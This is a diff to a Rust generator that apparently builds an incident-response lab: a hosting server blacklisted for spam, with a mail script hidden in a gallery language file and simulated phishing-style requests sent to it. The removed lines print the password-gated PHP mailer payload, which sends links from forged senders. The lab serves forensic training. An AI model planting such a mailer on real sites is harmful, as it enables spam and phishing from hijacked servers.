@@ -21,22 +21,62 @@ const SERVER: &str = "203.0.113.61";
 const SCRIPT: &str = "/var/www/web4079/htdocs/modules/gallery/lang/de-at.php";
 
 const PROVIDERS: &[Provider] = &[
-    (&["mainpost.example"], &[(10, "mx1.mainpost.example", "198.51.100.22", Manner::Tls), (20, "mx2.mainpost.example", "198.51.100.23", Manner::Tls)]),
-    (&["spessart.example", "weinort.example"], &[(10, "in.spessart.example", "192.0.2.42", Manner::Plain)]),
+    (
+        &["mainpost.example"],
+        &[
+            (10, "mx1.mainpost.example", "198.51.100.22", Manner::Tls),
+            (20, "mx2.mainpost.example", "198.51.100.23", Manner::Tls),
+        ],
+    ),
+    (
+        &["spessart.example", "weinort.example"],
+        &[(10, "in.spessart.example", "192.0.2.42", Manner::Plain)],
+    ),
     (&["rhoenmail.example"], &[(10, "mail.rhoenmail.example", "192.0.2.82", Manner::Grey)]),
     (&["altstadt.example"], &[(5, "a.altstadt.example", "198.51.100.92", Manner::Silent)]),
-    (&["vorrat.example", "regal.example"], &[(10, "mx.vorrat.example", "192.0.2.102", Manner::Sink(""))]),
+    (
+        &["vorrat.example", "regal.example"],
+        &[(10, "mx.vorrat.example", "192.0.2.102", Manner::Sink(""))],
+    ),
 ];
-const VICTIMS: &[&str] = &["mainpost.example", "spessart.example", "weinort.example", "rhoenmail.example", "vorrat.example", "regal.example", "altstadt.example"];
+const VICTIMS: &[&str] = &[
+    "mainpost.example",
+    "spessart.example",
+    "weinort.example",
+    "rhoenmail.example",
+    "vorrat.example",
+    "regal.example",
+    "altstadt.example",
+];
 const PEOPLE: &[&str] = &["198.51.100.130", "198.51.100.141", "192.0.2.150", "192.0.2.162"];
 const STRANGERS: &[&str] = &["192.0.2.219", "198.51.100.206", "198.51.100.239"];
 const SCANNERS: &[&str] = &["198.51.100.222", "192.0.2.190"];
 
 const SITES: &[Site] = &[
-    Site { name: "www.weingut-steig.example", root: "/var/www/web4077/htdocs", user: "web4077", log: "web4077.log" },
-    Site { name: "www.fahrschule-ost.example", root: "/var/www/web4078/htdocs", user: "web4078", log: "web4078.log" },
-    Site { name: "www.chorverein.example", root: "/var/www/web4079/htdocs", user: "web4079", log: "web4079.log" },
-    Site { name: "www.kistenladen.example", root: "/var/www/web4080/htdocs", user: "web4080", log: "web4080.log" },
+    Site {
+        name: "www.weingut-steig.example",
+        root: "/var/www/web4077/htdocs",
+        user: "web4077",
+        log: "web4077.log",
+    },
+    Site {
+        name: "www.fahrschule-ost.example",
+        root: "/var/www/web4078/htdocs",
+        user: "web4078",
+        log: "web4078.log",
+    },
+    Site {
+        name: "www.chorverein.example",
+        root: "/var/www/web4079/htdocs",
+        user: "web4079",
+        log: "web4079.log",
+    },
+    Site {
+        name: "www.kistenladen.example",
+        root: "/var/www/web4080/htdocs",
+        user: "web4080",
+        log: "web4080.log",
+    },
 ];
 
 pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
@@ -62,8 +102,16 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
     }
     server.write("/var/www/web4080/htdocs/shop/order.php", ORDER, 0o644)?;
     server.write("/var/www/web4079/htdocs/modules/gallery/upload.php", UPLOAD, 0o644)?;
-    server.write("/var/www/web4079/htdocs/modules/gallery/lang/de.php", "<?php\n$lang = ['next' => 'weiter', 'back' => 'zurück', 'upload' => 'hochladen'];\n", 0o644)?;
-    server.write("/var/www/web4079/htdocs/modules/gallery/lang/en.php", "<?php\n$lang = ['next' => 'next', 'back' => 'back', 'upload' => 'upload'];\n", 0o644)?;
+    server.write(
+        "/var/www/web4079/htdocs/modules/gallery/lang/de.php",
+        "<?php\n$lang = ['next' => 'weiter', 'back' => 'zurück', 'upload' => 'hochladen'];\n",
+        0o644,
+    )?;
+    server.write(
+        "/var/www/web4079/htdocs/modules/gallery/lang/en.php",
+        "<?php\n$lang = ['next' => 'next', 'back' => 'back', 'upload' => 'upload'];\n",
+        0o644,
+    )?;
     server.write("/var/www/web4079/htdocs/admin/save.php", SAVE, 0o644)?;
     server.write("/var/www/web4078/htdocs/anmeldung.php", REGISTER, 0o644)?;
     server.write("/tmp/payload.php", PAYLOAD, 0o600)?;
@@ -92,41 +140,128 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
 
     let length = plan.length;
     let mut line = Timeline::default();
-    let senders = [(net.exchanger("mx1.mainpost.example")?, "amt@mainpost.example"), (net.exchanger("in.spessart.example")?, "kunde@spessart.example")];
-    backdrop::incoming(&mut line, &mut chance, length, 0.6, &senders, &["technik@hostwerk.example"]);
+    let senders = [
+        (net.exchanger("mx1.mainpost.example")?, "amt@mainpost.example"),
+        (net.exchanger("in.spessart.example")?, "kunde@spessart.example"),
+    ];
+    backdrop::incoming(
+        &mut line,
+        &mut chance,
+        length,
+        0.6,
+        &senders,
+        &["technik@hostwerk.example"],
+    );
     for site in SITES {
         let web = Web { address: SERVER, name: site.name };
-        backdrop::visits(&mut line, &mut chance, length, 2.2, &crowd, PEOPLE, web, &["/", "/index.php?p=termine", "/kontakt.php", "/bild.jpg"]);
+        backdrop::visits(
+            &mut line,
+            &mut chance,
+            length,
+            2.2,
+            &crowd,
+            PEOPLE,
+            web,
+            &["/", "/index.php?p=termine", "/kontakt.php", "/bild.jpg"],
+        );
         for at in chance.arrivals(0.45, 4.0, length - 6.0) {
             let from = chance.pick(PEOPLE);
-            let body = format!("mail=frage{}%40mainpost.example&text=Haben+Sie+am+Samstag+offen%3F", chance.below(90));
-            backdrop::request(&mut line, at, "form", &crowd, from, web, &["-A", AGENTS.get(1).copied().unwrap_or_default(), "-d", &body], "/kontakt.php");
+            let body = format!(
+                "mail=frage{}%40mainpost.example&text=Haben+Sie+am+Samstag+offen%3F",
+                chance.below(90)
+            );
+            backdrop::request(
+                &mut line,
+                at,
+                "form",
+                &crowd,
+                from,
+                web,
+                &["-A", AGENTS.get(1).copied().unwrap_or_default(), "-d", &body],
+                "/kontakt.php",
+            );
         }
     }
-    let at_site = |number: usize| SITES.get(number).map(|site| Web { address: SERVER, name: site.name });
-    let (school, choir, shop) = (at_site(1).context("site")?, at_site(2).context("site")?, at_site(3).context("site")?);
+    let at_site =
+        |number: usize| SITES.get(number).map(|site| Web { address: SERVER, name: site.name });
+    let (school, choir, shop) =
+        (at_site(1).context("site")?, at_site(2).context("site")?, at_site(3).context("site")?);
     backdrop::scanners(&mut line, &mut chance, length, &crowd, SCANNERS, choir);
     // The shop's orders and the driving school's registrations mail as well, inside the window too.
     for at in chance.arrivals(1.0, 3.0, length - 6.0) {
         let from = chance.pick(PEOPLE);
-        let body = format!("mail=kauf{}%40{}&artikel=kiste", chance.below(90), chance.pick(VICTIMS));
-        backdrop::request(&mut line, at, "order", &crowd, from, shop, &["-A", AGENTS.first().copied().unwrap_or_default(), "-d", &body], "/shop/order.php");
+        let body =
+            format!("mail=kauf{}%40{}&artikel=kiste", chance.below(90), chance.pick(VICTIMS));
+        backdrop::request(
+            &mut line,
+            at,
+            "order",
+            &crowd,
+            from,
+            shop,
+            &["-A", AGENTS.first().copied().unwrap_or_default(), "-d", &body],
+            "/shop/order.php",
+        );
     }
     for at in chance.arrivals(0.5, 3.0, length - 6.0) {
         let from = chance.pick(PEOPLE);
-        backdrop::request(&mut line, at, "register", &crowd, from, school, &["-A", AGENTS.get(2).copied().unwrap_or_default(), "-d", "name=Neu&mail=neu%40weinort.example"], "/anmeldung.php");
+        backdrop::request(
+            &mut line,
+            at,
+            "register",
+            &crowd,
+            from,
+            school,
+            &[
+                "-A",
+                AGENTS.get(2).copied().unwrap_or_default(),
+                "-d",
+                "name=Neu&mail=neu%40weinort.example",
+            ],
+            "/anmeldung.php",
+        );
     }
     // The choir's own editor saves pages and uploads pictures.
     for at in chance.arrivals(1.2, 3.0, length - 6.0) {
-        let path = chance.pick(&["/admin/save.php", "/admin/save.php", "/modules/gallery/upload.php"]);
-        backdrop::request(&mut line, at, "edit", &crowd, "198.51.100.141", choir, &["-A", AGENTS.get(3).copied().unwrap_or_default(), "-d", "page=termine&text=Probe+am+Montag"], path);
+        let path =
+            chance.pick(&["/admin/save.php", "/admin/save.php", "/modules/gallery/upload.php"]);
+        backdrop::request(
+            &mut line,
+            at,
+            "edit",
+            &crowd,
+            "198.51.100.141",
+            choir,
+            &[
+                "-A",
+                AGENTS.get(3).copied().unwrap_or_default(),
+                "-d",
+                "page=termine&text=Probe+am+Montag",
+            ],
+            path,
+        );
     }
     let count = ((length / 60.0 * 1.2) as usize).max(6);
     for at in chance.scatter(count, length * 0.36, length * 0.62) {
-        let list: Vec<String> = (0..3 + chance.below(5)).map(|_| format!("{}%40{}", chance.word("abcdeilmnorst", 6), chance.pick(VICTIMS))).collect();
-        let body = format!("pw=u77&to={}&s={}", list.join("%0A"), chance.pick(&["Ihr+Konto", "Letzte+Mahnung", "Paket+wartet"]));
-        let from = chance.pick(STRANGERS);
-        backdrop::request(&mut line, at, "bad", &crowd, from, choir, &["-A", "python-requests/2.31.0", "-d", &body], SCRIPT.trim_start_matches("/var/www/web4079/htdocs"));
+        let list: Vec<String> = (0..3 + chance.below(5))
+            .map(|_| format!("{}%40{}", chance.word("abcdeilmnorst", 6), chance.pick(VICTIMS)))
+            .collect();
+        let body = format!(
+            "pw=u77&to={}&s={}",
+            list.join("%0A"),
+            chance.pick(&["Ihr+Konto", "Letzte+Mahnung", "Paket+wartet"])
+        );
+        let (from, agent) = (chance.pick(STRANGERS), chance.pick(AGENTS));
+        backdrop::request(
+            &mut line,
+            at,
+            "bad",
+            &crowd,
+            from,
+            choir,
+            &["-A", agent, "-d", &body],
+            SCRIPT.trim_start_matches("/var/www/web4079/htdocs"),
+        );
     }
 
     let played = line.play(plan.name, length)?;
@@ -139,12 +274,27 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
     folder.notice("notice.txt", &notice::cbl_2018(told, 3))?;
     folder.site("addresses = [\"203.0.113.61\"]\nmta = [\"postfix\"]\nhelo = [\"web3.hostwerk.example\"]\nvantage = \"host\"\n")?;
     folder.take(&server, &wire.path, "captures/web3-smtp.pcap")?;
-    for log in ["mail.log", "cron.log", "apache2/web4077.log", "apache2/web4078.log", "apache2/web4079.log", "apache2/web4080.log"] {
-        folder.take(&server, &format!("/var/log/{log}"), &format!("logs/{}", log.replace("apache2/", "")))?;
+    for log in [
+        "mail.log",
+        "cron.log",
+        "apache2/web4077.log",
+        "apache2/web4078.log",
+        "apache2/web4079.log",
+        "apache2/web4080.log",
+    ] {
+        folder.take(
+            &server,
+            &format!("/var/log/{log}"),
+            &format!("logs/{}", log.replace("apache2/", "")),
+        )?;
     }
     folder.ask(&server, "postqueue -p", "host/postqueue-p.txt")?;
     folder.ask(&server, "q=$(postqueue -j | grep -v MAILER-DAEMON | grep 'web4079' | head -1 | sed 's/.*\"queue_id\": *\"\\([^\"]*\\)\".*/\\1/'); postcat -q $q", "host/postcat-one.txt")?;
-    folder.ask(&server, "getent passwd root www-data postfix web4077 web4078 web4079 web4080 technik", "host/passwd.txt")?;
+    folder.ask(
+        &server,
+        "getent passwd root www-data postfix web4077 web4078 web4079 web4080 technik",
+        "host/passwd.txt",
+    )?;
     folder.ask(&server, "postconf -n", "host/postconf-n.txt")?;
     folder.ask(&server, "ps auxww", "host/ps.txt")?;
     folder.take(&server, "/etc/cron.d/shop", "etc/cron.d/shop")?;
@@ -171,62 +321,19 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
     )
 }
 
-const INDEX: &str = "<?php\n$p = preg_replace('/[^a-z]/', '', $_GET['p'] ?? 'start');\necho '<h1>', $p, '</h1>';\n";
+const INDEX: &str = include_str!("mailer_4079/index.php");
+const CONTACT: &str = include_str!("mailer_4079/kontakt.php");
 
-const CONTACT: &str = "<?php
-// Kontaktformular: fester Empfänger.
-if ($_SERVER['REQUEST_METHOD'] === 'POST') {
-    $from = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL);
-    if ($from) {
-        mail('kunde@spessart.example', 'Anfrage', wordwrap($_POST['text'] ?? ''), 'Reply-To: ' . $from);
-    }
-    echo 'Danke';
-    exit;
-}
-?><form method=\"post\"><input name=\"mail\"><textarea name=\"text\"></textarea></form>
-";
+const ORDER: &str = include_str!("mailer_4079/order.php");
+const REGISTER: &str = include_str!("mailer_4079/anmeldung.php");
 
-const ORDER: &str = "<?php
-$to = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL);
-if (!$to) { http_response_code(400); exit; }
-mail($to, 'Ihre Bestellung', \"Vielen Dank. Wir liefern in drei Tagen.\\n\", \"From: laden@hostwerk.example\\r\\nMIME-Version: 1.0\");
-mail('amt@mainpost.example', 'Bestellung eingegangen', 'von ' . $to);
-echo 'Danke';
-";
+const UPLOAD: &str = include_str!("mailer_4079/upload.php");
+const SAVE: &str = include_str!("mailer_4079/save.php");
 
-const REGISTER: &str = "<?php
-$to = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL);
-if (!$to) { http_response_code(400); exit; }
-mail($to, 'Anmeldung zum Kurs', \"Der Kurs beginnt am 1. Dezember.\\n\", 'From: technik@hostwerk.example');
-echo 'Danke';
-";
-
-const UPLOAD: &str = "<?php
-// Takes pictures of members who are logged in.
-session_start();
-if (empty($_SESSION['member'])) { header('Location: /admin/'); exit; }
-move_uploaded_file($_FILES['bild']['tmp_name'], __DIR__ . '/bilder/' . basename($_FILES['bild']['name']));
-";
-
-const SAVE: &str = "<?php
-// Saves a page of the editor.
-header('Content-Type: application/json');
-$page = preg_replace('/[^a-z]/', '', $_POST['page'] ?? '');
-echo json_encode(['saved' => $page, 'hash' => base64_encode(sha1($_POST['text'] ?? '', true))]);
-";
-
-const NEWSLETTER: &str = "#!/bin/sh
-# The shop's list, a few members at a time.
-for to in kunde1@mainpost.example kunde2@weinort.example kunde3@regal.example; do
-    printf 'From: laden@hostwerk.example\\nTo: %s\\nSubject: Angebote der Woche\\n\\nDrei Kisten zum Preis von zwei.\\n' \"$to\" | /usr/sbin/sendmail -t -i
-done
-";
+const NEWSLETTER: &str = include_str!("mailer_4079/newsletter");
 
 // Recipients come with the request and only the lab's exchangers exist.
-const PAYLOAD: &str = r#"if(($_POST['pw']??'')!=='u77'){http_response_code(404);exit;}
-foreach(explode("\n",$_POST['to']) as $t){$t=trim($t);if($t==='')continue;
-mail($t,$_POST['s'],"http://".substr(md5($t),2,7).".offers.example/\n","From: ".substr(md5($t),0,7)."@".substr(strrchr($t,'@'),1)."\r\nMIME-Version: 1.0\r\nContent-Type: text/html");usleep(300000);}
-echo 'ok';"#;
+const PAYLOAD: &str = include_str!("mailer_4079/payload.txt");
 
 const STORY: &str = "A hosting server with four customers; each site's PHP runs as its own user (php-fpm pools), all mail leaves through Postfix with the right HELO. \
 The CBL lists it. In the queue lie messages with `uid=4079`; that user's access log shows POSTs to several PHP files.
